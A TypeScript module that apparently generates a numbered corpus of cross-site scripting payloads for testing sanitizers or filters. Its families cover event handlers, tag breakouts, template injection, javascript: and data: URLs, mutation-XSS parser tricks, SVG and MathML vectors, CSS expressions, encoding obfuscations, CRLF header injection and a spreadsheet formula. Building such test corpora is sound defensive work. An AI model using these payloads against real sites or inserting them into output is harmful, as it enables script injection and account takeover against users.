import { asEntities, asEscapes, call, oddSigns, scriptSchemes } from './spellings.ts'

type Family = (n: number) => string[]

const events = ['load', 'error', 'focus', 'mouseover', 'toggle', 'begin', 'animationstart', 'pageshow']
const bearers = [
  '<img src=/khong-co/anh EVENT>',
  '<svg EVENT>',
  '<body EVENT>',
  '<input autofocus EVENT>',
  '<details open EVENT><summary>m</summary></details>',
  '<video EVENT><source EVENT src=/khong-co></video>',
  '<audio src=/khong-co EVENT>',
  '<marquee EVENT>m</marquee>',
  '<iframe EVENT></iframe>',
  '<object data=/khong-co EVENT></object>',
  '<a href=# tabindex=0 autofocus EVENT>m</a>',
]

const handlers: Family = (n) =>
  bearers.flatMap((bearer) => events.map((event) => bearer.replaceAll('EVENT', `on${event}=${call(n)}`)))

const quotes: Family = (n) =>
  ['"', "'", '', '`'].flatMap((quote) =>
    [' ', '/', '\t', '\n', '\f', '\r'].map(
      (gap) => `<img${gap}src=x${gap}onerror${gap}=${gap}${quote}${call(n)}${quote}>`,
    ),
  )

const scripts: Family = (n) => [
  ...['script', 'ScRiPt', 'script/', 'script ', 'script\t', 'script\n', 'svg><script', 'math><script'].map(
    (tag) => `<${tag}>${call(n)}</script>`,
  ),
  ...['text/javascript', 'module', 'text/ecmascript', '', 'application/javascript'].map(
    (kind) => `<script type="${kind}">${call(n)}</script>`,
  ),
  `<script>${call(n)}//`,
  `<script src="data:text/javascript,${call(n)}"></script>`,
  `<script src=data:;base64,${btoa(call(n))}></script>`,
  `<svg><script href="data:text/javascript,${call(n)}" /></svg>`,
  `<svg><script>${asEntities.decimal?.(call(n))}</script></svg>`,
]

const breakouts: Family = (n) =>
  [
    '"',
    "'",
    '">',
    "'>",
    '`>',
    '-->',
    '--!>',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
    '</option>',
    '</iframe>',
    '</xmp>',
    '</a>',
    '?>',
    '%>',
    '}}',
    '\\"',
    '\\x22>',
    '&quot;>',
    '\u0000">',
  ].flatMap((end) => [
    `${end}<script>${call(n)}</script>`,
    `${end}<img src=x onerror=${call(n)}>`,
    `${end} autofocus onfocus=${call(n)} x=${end.slice(0, 1)}`,
  ])

const inScript: Family = (n) => [
  ...['"', "'", '`'].flatMap((quote) => [
    `${quote};${call(n)};//`,
    `${quote}-${call(n)}-${quote}`,
    `\\${quote};${call(n)}//`,
    `${quote}}]};${call(n)};({x:[{y:${quote}`,
    `${quote}</ScRiPt ><ScRiPt >${call(n)}</ScRiPt >`,
  ]),
  `\${${call(n)}}`,
  `{{${call(n)}}}`,
  `{{constructor.constructor('${call(n)}')()}}`,
  `<%=${call(n)}%>`,
  `#{${call(n)}}`,
  `\u2028${call(n)}//`,
  `<!--<script>${call(n)}</script>-->`,
  `"},"x":"</script><script>${call(n)}</script>`,
  `<!--<script></script><script>${call(n)}</script>`,
]

const links: Family = (n) =>
  scriptSchemes.flatMap((scheme) => [
    `<a href="${scheme}${call(n)}">m</a>`,
    `<iframe src="${scheme}${call(n)}"></iframe>`,
    `<form action="${scheme}${call(n)}"><button>m</button></form>`,
    `<svg><a xlink:href="${scheme}${call(n)}"><text y=9>m</text></a></svg>`,
    `${scheme}${call(n)}`,
    `[m](${scheme}${call(n)})`,
  ])

const page = (n: number) => `<script>parent.${call(n)}</script>`

const embedded: Family = (n) => [
  ...['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', ''].flatMap((kind) => [
    `<iframe src="data:${kind},${page(n)}"></iframe>`,
    `<object data="data:${kind};base64,${btoa(page(n))}"></object>`,
    `<embed src="data:${kind},${encodeURIComponent(page(n))}">`,
    `<a href="data:${kind},${page(n)}">m</a>`,
  ]),
  ...Object.values(asEntities).map((spell) => `<iframe srcdoc="${spell(page(n))}"></iframe>`),
  `<meta http-equiv=refresh content="0;url=javascript:${call(n)}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,${page(n)}">`,
  `<base href="javascript:${call(n)}//">`,
  `<link rel=stylesheet href="javascript:${call(n)}">`,
  `<link rel=import href="data:text/html,${page(n)}">`,
  `<button form=f formaction="javascript:${call(n)}">m</button><form id=f></form>`,
  `<isindex type=image src=x onerror=${call(n)}>`,
]

// What one parse leaves in peace and the next one wakes.
const wakings: Family = (n) => {
  const late = `<img src=x onerror=${call(n)}>`
  return [
    ...['noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'template'].flatMap(
      (tag) => [
        `<${tag}><p title="</${tag}>${late}">`,
        `<svg><${tag}><p title="</${tag}>${late}"></p></${tag}></svg>`,
        `<math><mtext><table><mglyph><${tag}><!--</${tag}>${late}-->`,
      ],
    ),
    `<svg></p><style><a id="</style>${late}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${late}`,
    `<math><annotation-xml encoding="text/html"><style>${late}</style></annotation-xml></math>`,
    `<svg><foreignObject><iframe><!--</iframe>${late}--></iframe></foreignObject></svg>`,
    `<select><template>${late}</template></select>`,
    `<table><td>${late}<table><tr>${late}`,
    `<!--><!--${late}-->`,
    `<!--->${late}-->`,
    `<![CDATA[${late}]]>`,
    `<?xml ${late}?>`,
    `<!doctype x [${late}]>`,
    `</p ${late}>`,
    `<p/${late}`,
    `<<p>${late}`,
    `<img src=x onerror=${call(n)}//`,
    `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
    `<img src="x\`><script>${call(n)}</script>"\`>`,
  ]
}

const drawings: Family = (n) => [
  ...['animate', 'set', 'animateTransform'].flatMap((tag) => [
    `<svg><${tag} onbegin=${call(n)} attributeName=x dur=1s></svg>`,
    `<svg><a><${tag} attributeName=href values="javascript:${call(n)}" to="javascript:${call(n)}" /><text y=9>m</text></a></svg>`,
  ]),
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${call(n)}'/></svg>#x" /></svg>`,
  `<svg><image href=x onerror=${call(n)}></svg>`,
  `<svg><handler type=text/javascript>${call(n)}</handler></svg>`,
  `<math href="javascript:${call(n)}">m</math>`,
  `<math><maction actiontype="statusline#javascript:${call(n)}" xlink:href="javascript:${call(n)}">m</maction></math>`,
  `<math><mi//xlink:href="data:x,<script>${call(n)}</script>">`,
]

const looks: Family = (n) => [
  `<style>@import "javascript:${call(n)}";</style>`,
  `<style>@keyframes k{}*{animation:k}</style><p onanimationstart=${call(n)}>m`,
  `<p style="background:url(javascript:${call(n)})">m</p>`,
  `<p style="width:expression(${call(n)})">m</p>`,
  `<p style="-moz-binding:url(data:text/xml,${call(n)})">m</p>`,
  `<p style="behavior:url(#x);x:${asEscapes.style?.(`expression(${call(n)})`)}">m</p>`,
  `}</style><script>${call(n)}</script>`,
]

const spelled: Family = (n) =>
  [`<script>${call(n)}</script>`, `<img src=x onerror=${call(n)}>`].flatMap((words) => [
    ...Object.values(asEntities).map((spell) => spell(words)),
    ...Object.values(asEscapes).map((spell) => spell(words)),
    ...oddSigns.flatMap((sign) => [
      words.replace('<', `<${sign}`),
      words.replace(/(s)(c|r)/, `$1${sign}$2`),
      `${sign}${words}${sign}`,
    ]),
    words.replaceAll('<', '\ufe64').replaceAll('>', '\ufe65'),
    words.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    words.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
    words.replaceAll(/[()]/g, '`'),
  ])

const headersAndCells: Family = (n) => [
  `Mẫu\r\nContent-Type: text/html\r\n\r\n<script>${call(n)}</script>`,
  `=HYPERLINK("javascript:${call(n)}","m")`,
  `<xml id=x><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call(n)}</x:script></xml>`,
  `<?xml-stylesheet href="javascript:${call(n)}"?>`,
  `<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>${call(n)}</script>">&x;`,
  `WEBVTT\n\n00:00.000 --> 00:01.000\n<script>${call(n)}</script>`,
  `<figure data-photo='"><img src=x onerror=${call(n)}>'>m</figure>`,
  `<span data-fact='"onmouseover=${call(n)} '>m</span>`,
  `<figure data-bulletin="javascript:${call(n)}">m</figure>`,
]

const families: Record<string, Family> = {
  ...{ scripts, handlers, quotes, breakouts, inScript, links, embedded, wakings, drawings, looks, spelled },
  headersAndCells,
}

/** Every string once; the number in its call is its place in the list. */
export const corpus: string[] = numbered(Object.values(families))

function numbered(all: Family[]): string[] {
  const shapes = all.flatMap((family) => family(0).map((_, at) => (n: number) => family(n)[at] ?? ''))
  const seen = new Set<string>()
  const kept = shapes.filter((shape) => !seen.has(shape(0)) && seen.add(shape(0)))
  return kept.map((shape, n) => shape(n))
}
